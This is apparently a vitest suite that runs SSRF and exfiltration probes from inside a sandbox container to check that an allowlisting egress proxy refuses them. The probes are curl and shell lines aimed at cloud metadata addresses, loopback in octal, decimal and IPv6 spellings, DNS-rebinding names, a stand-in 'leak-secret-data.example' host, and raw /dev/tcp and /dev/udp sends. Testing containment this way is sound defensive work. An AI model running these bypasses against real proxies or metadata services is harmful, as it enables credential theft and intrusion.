import { createServer, type Server } from 'node:http';
import { createSocket, type Socket as UdpSocket } from 'node:dgram';
import type { AddressInfo } from 'node:net';
import { networkInterfaces } from 'node:os';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EgressShape } from '../../../src-main/services/sandbox';
import { createHarness, EGRESS_SHAPES, runCommand, sandboxSkipReason, type CommandRun, type Harness } from './harness';

/**
 * Attack tests from inside a real container, once for each way the
 * container reaches its proxy (egress-route.ts: no network + a mounted socket, or a per-run
 * internal network + a relay container). The "outside" is made by the test on this machine only:
 * an HTTP server on all of the host's addresses (standing in for an allowed site and for services
 * on the host), a UDP listener, and names that the proxy's resolver maps to them. Every probe but
 * the two allowed ones must fail, and the host servers must see nothing else.
 *
 * Only `allowed.test` is opened to loopback (as an admin's policy would, PolicyGuard.mayReachPrivate).
 * The allowlist also carries loopback and metadata destinations in other spellings and a name that
 * resolves to loopback (DNS rebinding), as if they had slipped past the checks users' entries get:
 * the proxy itself must still refuse every one of them.
 */

const skip = await sandboxSkipReason();
if (skip) console.warn(`[sandbox] skipping egress attack tests: ${skip}`);

function attackSuite(shape: EgressShape) {
  let harness: Harness;
  let server: Server;
  let udp: UdpSocket;
  let run: CommandRun;
  const hits: string[] = [];
  const udpHits: string[] = [];
  const lookedUp: string[] = [];
  const results = new Map<string, { ok: boolean; output: string }>();

  /** A host address other than loopback, so "no route out" is tested against this machine only. */
  function hostAddress(): string {
    for (const list of Object.values(networkInterfaces()))
      for (const a of list ?? []) if (a.family === 'IPv4' && !a.internal) return a.address;
    return '127.0.0.1';
  }

  describe.skipIf(skip)(`egress from a real sandbox container (${shape} shape)`, () => {
    beforeAll(async () => {
      server = createServer((req, res) => {
        hits.push(`${req.method} ${req.headers.host} ${req.url}`);
        res.end('hello from outside\n');
      });
      // '::' is dual-stack: the server answers on every host address, loopback and IPv6 included.
      await new Promise<void>((resolve) => server.listen(0, '::', resolve));
      const port = (server.address() as AddressInfo).port;
      udp = createSocket('udp4');
      udp.on('message', (m) => udpHits.push(m.toString()));
      await new Promise<void>((resolve) => udp.bind(0, '0.0.0.0', resolve));
      const udpPort = udp.address().port;

      harness = await createHarness({
        egressShape: shape,
        // The proxy's resolver: the allowed name and a wildcard-matched name both point at this
        // machine's loopback; any other name is recorded (a leak would show here) and unknown.
        lookup: async (name) => {
          lookedUp.push(name);
          if (['allowed.test', 'x.wild.test', 'rebind.test', 'localhost'].includes(name))
            return [{ address: '127.0.0.1', family: 4 }];
          if (name === 'metadata.google.internal') return [{ address: '169.254.169.254', family: 4 }];
          if (name === 'rebind6.test') return [{ address: '::ffff:127.0.0.1', family: 6 }];
          throw Object.assign(new Error(`ENOTFOUND ${name}`), { code: 'ENOTFOUND' });
        },
        mayReachPrivate: (entry) => entry === `allowed.test:${port}`,
      });
      const hostIp = hostAddress();
      const script = `
P=${port}; U=${udpPort}; H=${hostIp}
t() { name=$1; shift; if "$@" >/tmp/out 2>&1; then r=ok; else r=fail; fi; echo "RESULT $name $r $(head -c 300 /tmp/out | tr '\\n' ' ')"; }
t allowed_http curl -sS -f -m 10 http://allowed.test:$P/hello
t allowed_connect curl -sS -f -m 10 -p http://allowed.test:$P/hello
t other_domain curl -sS -f -m 10 http://other.test:$P/
t other_domain_connect curl -sS -f -m 10 -p http://other.test:$P/
t other_domain_https curl -sS -f -m 10 https://leak-secret-data.example/
t host_header_smuggling curl -sS -f -m 10 -H 'Host: allowed.test' http://other.test:$P/
t allowed_name_other_port curl -sS -f -m 10 http://allowed.test:$((P + 1))/
t raw_ip curl -sS -f -m 10 http://127.0.0.1:$P/
t raw_ip_connect curl -sS -f -m 10 -p http://127.0.0.1:$P/
t host_ip_via_proxy curl -sS -f -m 10 http://$H:$P/
t metadata curl -sS -f -m 10 http://169.254.169.254/latest/meta-data/
t metadata_connect curl -sS -f -m 10 -p http://169.254.169.254:80/
t ipv6_via_proxy curl -sS -f -m 10 "http://[::1]:$P/"
t ipv6_connect curl -sS -f -m 10 -p "http://[::1]:$P/"
t wildcard_name_to_loopback curl -sS -f -m 10 -p http://x.wild.test:$P/
t alt_loopback_short curl -sS -f -m 10 http://127.1:$P/
t alt_loopback_short_connect curl -sS -f -m 10 -p http://127.1:$P/
t alt_loopback_decimal curl -sS -f -m 10 http://2130706433:$P/
t alt_loopback_hex curl -sS -f -m 10 -p http://0x7f.1:$P/
t alt_loopback_octal curl -sS -f -m 10 http://0177.0.0.1:$P/
t alt_loopback_mapped curl -sS -f -m 10 "http://[::ffff:127.0.0.1]:$P/"
t alt_loopback_mapped_connect curl -sS -f -m 10 -p "http://[::ffff:7f00:1]:$P/"
t alt_loopback_v6_long curl -sS -f -m 10 -p "http://[0:0:0:0:0:0:0:1]:$P/"
t alt_loopback_name curl -sS -f -m 10 http://localhost:$P/
t alt_loopback_name_dot curl -sS -f -m 10 -p http://LOCALHOST.:$P/
t rebinding_name curl -sS -f -m 10 http://rebind.test:$P/
t rebinding_name_connect curl -sS -f -m 10 -p http://rebind.test:$P/
t rebinding_name_mapped curl -sS -f -m 10 -p http://rebind6.test:$P/
t alt_metadata_octal curl -sS -f -m 10 http://0251.0376.0251.0376/latest/meta-data/
t alt_metadata_decimal curl -sS -f -m 10 -p http://2852039166:80/
t alt_metadata_v6 curl -sS -f -m 10 "http://[fd00:ec2::254]/"
t alt_metadata_name curl -sS -f -m 10 http://metadata.google.internal/computeMetadata/v1/
t direct_loopback curl -sS -f -m 5 --noproxy '*' http://127.0.0.1:$P/
t direct_ipv6_loopback curl -sS -f -m 5 --noproxy '*' "http://[::1]:$P/"
t direct_host_ip curl -sS -f -m 5 --noproxy '*' http://$H:$P/
t direct_metadata curl -sS -f -m 5 --noproxy '*' http://169.254.169.254/
t dns_lookup getent hosts allowed.test
t dns_leak getent hosts secret-data.leak.example
t raw_tcp bash -c "exec 3<>/dev/tcp/$H/$P"
t raw_udp bash -c "echo leaked > /dev/udp/$H/$U"
t has_route sh -c 'awk "NR > 1 && \\$2 == \\"00000000\\"" /proc/net/route | grep -q . || grep "^00000000000000000000000000000000 00" /proc/net/ipv6_route 2>/dev/null | grep -qv " lo$"'
t non_http_through_relay sh -c "printf 'SSH-2.0-probe\\r\\n\\r\\n' | socat -t 3 - TCP:$COSPEC_PROXY_ADDR | grep -q ' 200 '"
# Where the relay offered its listener to the app: gone once taken (network shape: never mounted here).
t handoff_socket_again perl -MIO::Socket::UNIX -MSocket -e 'for (@ARGV) { exit 0 if IO::Socket::UNIX->new(Peer => $_, Type => SOCK_STREAM) } exit 1' "$COSPEC_RUN_DIR/handoff.sock" /cospec/handoff/handoff.sock
# Taking the proxy's port over from the app's listener, as a second listener sharing it would.
t steal_proxy_port perl -MSocket -e 'socket(my $s, AF_INET, SOCK_STREAM, 0) or exit 1; setsockopt($s, SOL_SOCKET, SO_REUSEADDR, 1); setsockopt($s, SOL_SOCKET, 15, 1); bind($s, pack_sockaddr_in(3128, inet_aton("127.0.0.1"))) or exit 1; listen($s, 5) or exit 1'
t relay_process sh -c 'grep -l "[r]elay\\.pl" /proc/[0-9]*/cmdline'
if [ "$COSPEC_EGRESS" = network ]; then
  t proxy_without_credentials curl -sS -f -m 10 -x "http://$COSPEC_PROXY_ADDR" http://allowed.test:$P/hello
fi
if [ "$COSPEC_EGRESS" != socket ]; then
  t relay_other_port bash -c "exec 3<>/dev/tcp/\${COSPEC_PROXY_ADDR%:*}/22"
fi
echo END
`;
      const timer = setTimeout(
        () =>
          console.warn(
            `[sandbox] the probe container is still running after 60 s; sandbox log:\n${harness.logs.join('\n')}`,
          ),
        60_000,
      );
      run = await runCommand(harness, script, {
        allowlist: [
          `allowed.test:${port}`,
          `*.wild.test:${port}`,
          // Entries the policy did not open to private addresses: listed, and still refused.
          `127.1:${port}`,
          `2130706433:${port}`,
          `[::ffff:127.0.0.1]:${port}`,
          `[::1]:${port}`,
          `localhost:${port}`,
          `rebind.test:${port}`,
          `rebind6.test:${port}`,
          '0251.0376.0251.0376',
          '[fd00:ec2::254]',
          'metadata.google.internal',
        ],
      });
      clearTimeout(timer);
      for (const line of run.lines) {
        const m = /^RESULT (\S+) (ok|fail) ?(.*)$/.exec(line);
        if (m) results.set(m[1]!, { ok: m[2] === 'ok', output: m[3] ?? '' });
      }
    }, 180_000);

    afterAll(async () => {
      server?.closeAllConnections();
      await new Promise<void>((resolve) => (server ? server.close(() => resolve()) : resolve()));
      udp?.close();
      await harness?.cleanup();
    });

    const probe = (name: string) => {
      const r = results.get(name);
      expect(r, `probe ${name} did not run; log:\n${run.lines.join('\n')}`).toBeDefined();
      return r!;
    };

    it('ran every probe', () => {
      expect(run.result.exitCode, run.lines.join('\n')).toBe(0);
      expect(run.lines).toContain('END');
    });

    it('reaches the allowed host, by absolute URI and through CONNECT', () => {
      expect(probe('allowed_http')).toMatchObject({ ok: true, output: expect.stringContaining('hello from outside') });
      expect(probe('allowed_connect')).toMatchObject({
        ok: true,
        output: expect.stringContaining('hello from outside'),
      });
    });

    it.each([
      'other_domain',
      'other_domain_connect',
      'other_domain_https',
      'host_header_smuggling',
      'allowed_name_other_port',
      'raw_ip',
      'raw_ip_connect',
      'host_ip_via_proxy',
      'metadata',
      'metadata_connect',
      'ipv6_via_proxy',
      'ipv6_connect',
      'wildcard_name_to_loopback',
      'alt_loopback_short',
      'alt_loopback_short_connect',
      'alt_loopback_decimal',
      'alt_loopback_hex',
      'alt_loopback_octal',
      'alt_loopback_mapped',
      'alt_loopback_mapped_connect',
      'alt_loopback_v6_long',
      'alt_loopback_name',
      'alt_loopback_name_dot',
      'rebinding_name',
      'rebinding_name_connect',
      'rebinding_name_mapped',
      'alt_metadata_octal',
      'alt_metadata_decimal',
      'alt_metadata_v6',
      'alt_metadata_name',
    ])('the proxy refuses %s', (name) => {
      const r = probe(name);
      expect(r.ok, r.output).toBe(false);
      expect(r.output).toMatch(/403|coSPEC egress/);
    });

    it.each(['direct_loopback', 'direct_ipv6_loopback', 'direct_host_ip', 'direct_metadata', 'raw_tcp', 'raw_udp'])(
      '%s has no way out',
      (name) => {
        const r = probe(name);
        expect(r.ok, r.output).toBe(false);
      },
    );

    it('has no route and no resolver of its own, and the proxy resolves only allowed names', () => {
      expect(probe('has_route').ok).toBe(false);
      expect(probe('dns_lookup').ok).toBe(false);
      expect(probe('dns_leak').ok).toBe(false);
      // Listed names are resolved (and then refused for where they lead); nothing else is.
      expect(new Set(lookedUp)).toEqual(
        new Set([
          'allowed.test',
          'x.wild.test',
          'localhost',
          'rebind.test',
          'rebind6.test',
          'metadata.google.internal',
        ]),
      );
    });

    if (shape !== 'tunnel') {
      // The relay's listener was handed to the app's proxy (listener-handoff.ts): every probe above
      // met the proxy on it, and none of the hand-off's own ways in is left open.
      it('served the agent on the relay’s own listener, handed to the app', () => {
        expect(harness.logs.join('\n')).toContain('sandbox: egress listener handed off');
        if (shape === 'socket')
          expect(probe('relay_process').ok, 'no relay process is left in the container').toBe(false);
      });
      it('leaves no way to offer the app another listener, nor to take over the proxy’s port', () => {
        expect(probe('handoff_socket_again').ok).toBe(false);
        // In the network shape the port is the relay container's, out of the agent's reach.
        if (shape === 'socket') expect(probe('steal_proxy_port').ok).toBe(false);
      });
    }

    it('answers non-HTTP bytes sent to the relay with an error', () => {
      expect(probe('non_http_through_relay').ok).toBe(false);
    });

    // Only the network shape has a proxy that others could reach (on the engine's gateway), so only it asks for credentials.
    if (shape === 'network') {
      it('on the run’s network, reaches the proxy only with the run’s credentials', () => {
        const r = probe('proxy_without_credentials');
        expect(r.ok, r.output).toBe(false);
        expect(r.output).toMatch(/407/);
      });
    }
    if (shape !== 'socket') {
      it('on the run’s network, reaches the relay container only on the proxy port', () => {
        expect(probe('relay_other_port').ok).toBe(false);
      });
    }

    it('lets only the two allowed requests reach the host servers, and no UDP at all', () => {
      expect(hits).toEqual([
        `GET allowed.test:${(server.address() as AddressInfo).port} /hello`,
        `GET allowed.test:${(server.address() as AddressInfo).port} /hello`,
      ]);
      expect(udpHits).toEqual([]);
    });

    it('records each verdict for the run record', () => {
      const port = (server.address() as AddressInfo).port;
      const egress = run.result.egress;
      expect(egress).toContainEqual(
        expect.objectContaining({ destination: `allowed.test:${port}`, verdict: 'allowed', count: 2 }),
      );
      expect(egress).toContainEqual(
        expect.objectContaining({
          destination: `other.test:${port}`,
          verdict: 'denied',
          reason: 'other.test is not on the allowlist',
        }),
      );
      expect(egress).toContainEqual(expect.objectContaining({ destination: '169.254.169.254:80', verdict: 'denied' }));
      expect(egress).toContainEqual(
        expect.objectContaining({
          destination: `x.wild.test:${port}`,
          verdict: 'denied',
          reason: expect.stringContaining('loopback'),
        }),
      );
      expect(egress.filter((e) => e.verdict === 'allowed').map((e) => e.destination)).toEqual([`allowed.test:${port}`]);
    });
  });
}

for (const shape of EGRESS_SHAPES) attackSuite(shape);
